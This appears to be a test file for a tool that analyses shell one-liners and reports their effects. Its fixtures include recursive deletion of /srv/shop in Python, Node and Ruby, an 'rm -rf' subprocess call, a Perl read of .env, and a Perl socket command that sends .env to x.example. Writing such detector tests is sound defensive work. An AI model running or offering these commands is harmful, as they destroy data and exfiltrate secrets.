import { expect, test } from 'vitest';
import { analyse } from '../../analyse.ts';

const effects = (line: string) =>
  analyse(line, { cwd: '/home/dev/project', home: '/home/dev', env: {} }).effects;

test.each([
  `python3 -c "import shutil\nx = []\nx.append('/srv/shop')\nfor f in x: shutil.rmtree(f)"`,
  `node -e "const x = []; x.push('/srv/shop'); for (const f of x) fs.rmSync(f, { recursive: true })"`,
  `ruby -e "x = []; x << '/srv/shop'; x.each { |f| FileUtils.rm_rf(f) }"`,
])('reads a loop over a list that is filled later: %s', (line) => {
  expect(effects(line).some(({ kind }) => kind === 'delete')).toBe(true);
});

test('a command that gets more words later has an unknown end', () => {
  const line = `python3 -c "import subprocess\ncmd = ['rm', '-rf']\ncmd.append(p)\nsubprocess.run(cmd)"`;
  expect(effects(line)).toContainEqual(
    expect.objectContaining({ kind: 'delete', recursive: true, path: null }),
  );
});

test('a call without brackets ends with its statement', () => {
  expect(effects(`perl -e 'open F, ".env"; print 1'`)).toContainEqual(
    expect.objectContaining({ kind: 'read', path: '/home/dev/project/.env' }),
  );
});

test('sends what a handle was opened for when the program talks to a host', () => {
  const line = `perl -MIO::Socket::INET -e 'open F,".env";$s=IO::Socket::INET->new("x.example:80");print $s <F>'`;
  expect(effects(line)).toContainEqual(
    expect.objectContaining({ kind: 'send', host: 'x.example', path: '/home/dev/project/.env' }),
  );
});
